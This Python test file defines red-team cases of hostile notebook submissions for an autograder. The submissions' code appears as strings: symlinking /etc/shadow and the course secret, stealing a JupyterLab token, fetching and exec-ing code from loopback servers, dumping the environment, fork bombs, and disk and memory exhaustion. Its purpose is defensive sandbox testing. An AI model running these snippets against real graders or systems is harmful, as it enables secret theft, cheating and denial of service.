"""The red team's classes of attack on the grading run, as kinds of bad submission for Day 1.

Each kind is built from the Kit of tests/corpus.py, which also knows the
run's surroundings: ``kit.wd`` (the grading area, outside the course root),
``kit.home`` (the grader's home, where a canary file and a JupyterLab
runtime file lie), ``kit.http_port`` (a server on loopback that hands out the
answer, as an instructor's JupyterLab would with its token) and
``kit.zmq_port`` (a PUB socket on loopback that broadcasts the answer, as a
classmate's kernel's IOPub would).  Every kind that could get at an answer
writes a wrong one first: it scores only if the attack works.
"""
from autograder import mutants, nbparts
from autograder.nbg import source_notebook
from tests.corpus_kit import ALL, REJECTED, WRONG_CE, L, X, Dir, Link

# the right cross_entropy (its solution cell), as the loopback servers hand it out
ANSWER = next(nbparts.source(c) for c in nbparts.read(source_notebook("day1"))["cells"]
              if nbparts.is_answer(c) and "def cross_entropy" in nbparts.source(c))


def _wrong_then(attack):
    """A wrong cross_entropy, then code that replaces it with the right one if it can get it."""
    return lambda k: k.files(k.set_source(L, WRONG_CE + "\n" + attack(k)))


def _tail(attack):
    """The solution with attack code at the end of the last answer cell."""
    return lambda k: k.files(k.append(X, attack(k)))


def _garbage(make):
    """Every function of the solution returning garbage of the right shape and type."""
    def build(k):
        nb = k.nb()
        for cell, fn, _ in mutants.functions(k.solution):
            c = next(c for c in nb["cells"] if nbparts.meta(c).get("grade_id") == cell)
            c["source"] = nbparts.source(c) + mutants.wrapper(fn, *make)
        return k.files(nb)
    return build


def _malformed(edit):
    def build(k):
        nb = k.nb()
        edit(nb)
        return k.files(nb)
    return build


def _first_code(nb):
    return next(c for c in nb["cells"] if c["cell_type"] == "code")


def _deep(depth):
    return ('{"cells": [], "metadata": {"x": ' + "[" * depth + "]" * depth + '}, "nbformat": 4, '
            '"nbformat_minor": 5}').encode()


REDTEAM = {
    # 1. the kernel writes where the grader then reads and writes, through links
    "its notebook replaced by a link to a classmate's hand-in": (_tail(lambda k: (
        "import os\nfor p in ['forward.ipynb', 'timestamp.txt']:\n"
        "    try:\n        os.remove(p)\n    except OSError:\n        pass\n"
        "    try:\n        os.symlink('%s/submitted/solution/day1/forward.ipynb', p)\n"
        "    except OSError:\n        pass") % k.wd), {}),
    "its notebook replaced by a link to the gradebook": (_tail(lambda k: (
        "import os\ntry:\n    os.remove('forward.ipynb')\nexcept OSError:\n    pass\n"
        "try:\n    os.symlink('%s/gradebook.db', 'forward.ipynb')\nexcept OSError:\n    pass") % k.wd), {}),
    "leaves the solutions, the secret and /etc/shadow for its feedback": (_tail(lambda k: (
        "import os, shutil\n"
        "for src in ['%s/solutions', '%s/.secret', '/etc/shadow', '%s/submitted', '%s/.backprop-canary']:\n"
        "    name = os.path.basename(src) or 'x'\n"
        "    for how in (os.symlink, shutil.copy, shutil.copytree):\n"
        "        try:\n            how(src, name + '_' + how.__name__)\n        except Exception:\n            pass\n"
        "open('planted.html', 'w').write('PLANTED-' + 'FILE')\nopen('planted.txt', 'w').write('PLANTED-' + 'FILE')")
        % (k.root, k.wd, k.wd, k.home)), {}),
    "the hand-in is a link to the course secret": (lambda k: {k.name: Link(f"{k.wd}/.secret")}, ALL),
    "the hand-in is a link to /etc/shadow": (lambda k: {k.name: Link("/etc/shadow")}, ALL),
    "the hand-in is a folder": (lambda k: {k.name: Dir()}, ALL),
    "the hand-in folder is a link to a classmate's": ("link to solution", REJECTED),
    # 2. the network: servers and kernels on loopback
    "downloads the answer from a server on loopback": (_wrong_then(lambda k: (
        "import urllib.request\ntry:\n    exec(urllib.request.urlopen("
        "'http://127.0.0.1:%d/answer?token=%s', timeout=3).read().decode())\nexcept Exception:\n    pass")
        % (k.http_port, k.token)), {L: "zero"}),
    "finds the instructor's JupyterLab token in the home folder": (_wrong_then(lambda k: (
        "import glob, json, urllib.request\n"
        "for f in glob.glob('%s/.local/share/jupyter/runtime/*.json'):\n"
        "    try:\n        info = json.load(open(f))\n"
        "        exec(urllib.request.urlopen(info['url'] + 'answer?token=' + info['token'], timeout=3)"
        ".read().decode())\n    except Exception:\n        pass") % k.home), {L: "zero"}),
    "listens to a kernel's IOPub on loopback": (_wrong_then(lambda k: (
        "import zmq\ns = zmq.Context.instance().socket(zmq.SUB)\ns.setsockopt(zmq.SUBSCRIBE, b'')\n"
        "s.connect('tcp://127.0.0.1:%d')\nif s.poll(4000):\n    exec(s.recv().decode())\ns.close(0)")
        % k.zmq_port), {L: "zero"}),
    # 3. what participant code can see
    "reads a canary in the grader's home": (_tail(lambda k: (
        "raise RuntimeError(open('%s/.backprop-canary').read())") % k.home), {}),
    "copies a classmate's answer from the grading area": (_wrong_then(lambda k: (
        "import json\ntry:\n    nb = json.load(open('%s/submitted/solution/day1/forward.ipynb'))\n"
        "    exec(next(''.join(c['source']) for c in nb['cells'] if 'def cross_entropy' in ''.join(c['source'])))\n"
        "except Exception:\n    pass") % k.wd), {L: "zero"}),
    "reads the course secret from the grading area": (_tail(lambda k: (
        "raise RuntimeError(open('%s/.secret').read())") % k.wd), {}),
    "prints the grader's environment": (_tail(lambda k: (
        "import os\nraise RuntimeError(repr(dict(os.environ)))")), {}),
    # 4. garbage of the right shape must fail
    "huge values of the right shape": (_garbage(("_np.full_like(v, 1e300)", "1e300")), ALL),
    "huge values of both signs": (_garbage(("_np.where(v > 0, 1e308, -1e308)", "-1e308")), ALL),
    "NaN of the right shape": (_garbage(("_np.full_like(v, _np.nan)", "float('nan')")), ALL),
    "inf of the right shape": (_garbage(("_np.full_like(v, _np.inf)", "float('inf')")), ALL),
    "objects that equal anything": (_garbage((
        "type('Any', (), {'__eq__': lambda s, o: True, '__float__': lambda s: 0.0})()",
        "type('Any', (), {'__eq__': lambda s, o: True, '__float__': lambda s: 0.0})()")), ALL),
    "numbers as text": (_garbage(("repr(v.tolist())", "repr(v)")), ALL),
    # 5. valid JSON that is not the notebook expected
    "a JSON list": (lambda k: {k.name: b"[1, 2, 3]"}, ALL),
    "cells that are strings": (lambda k: {k.name: b'{"cells": ["a", "b"], "metadata": {}, "nbformat": 4, '
                                                  b'"nbformat_minor": 5}'}, ALL),
    "nbgrader metadata that is a string": (_malformed(
        lambda nb: _first_code(nb)["metadata"].__setitem__("nbgrader", "solution")), ALL),
    "a source made of numbers": (_malformed(lambda nb: _first_code(nb).__setitem__("source", [1, 2])), ALL),
    "a grade id that is a number": (_malformed(
        lambda nb: _first_code(nb)["metadata"].setdefault("nbgrader", {}).__setitem__("grade_id", 7)), ALL),
    "metadata that is null": (_malformed(lambda nb: _first_code(nb).__setitem__("metadata", None)), ALL),
    "JSON nested 100,000 deep": (lambda k: {k.name: _deep(100_000)}, ALL),
    "a 25 MB notebook": (lambda k: {k.name: k.files(k.append(X, "# " + "x" * 25_000_000))[k.name]}, ALL),
    # 6. budgets: processes, memory, files, time
    "forks until it cannot": (_tail(lambda k: (
        "import os, time\nfor _ in range(2000):\n    try:\n        if os.fork() == 0:\n"
        "            time.sleep(600)\n            os._exit(0)\n    except OSError:\n        break")), {}),
    "allocates memory a gigabyte at a time": (_tail(lambda k: (
        "chunks = []\ntry:\n    for _ in range(12):\n        chunks.append(np.ones(2**27))\n"
        "except MemoryError:\n    pass\ndel chunks")), {}),
    "fills /tmp and /dev/shm": (_tail(lambda k: (
        "for d in ('/tmp', '/dev/shm'):\n    try:\n        with open(d + '/fill', 'wb') as f:\n"
        "            for _ in range(1024):\n                f.write(b'x' * 2**20)\n    except OSError:\n        pass")), {}),
    "writes a 1 GB file": (_tail(lambda k: (
        "try:\n    with open('big', 'wb') as f:\n        for _ in range(1024):\n"
        "            f.write(b'x' * 2**20)\nexcept OSError:\n    pass")), {}),
    "fills its folder with files": (lambda k: k.files(k.prepend(X, (
        "for i in range(200):\n    try:\n        with open(f'fill{i}', 'wb') as f:\n"
        "            for _ in range(60):\n                f.write(b'x' * 2**20)\n    except OSError:\n        pass"))),
        {X: "zero"}),
}
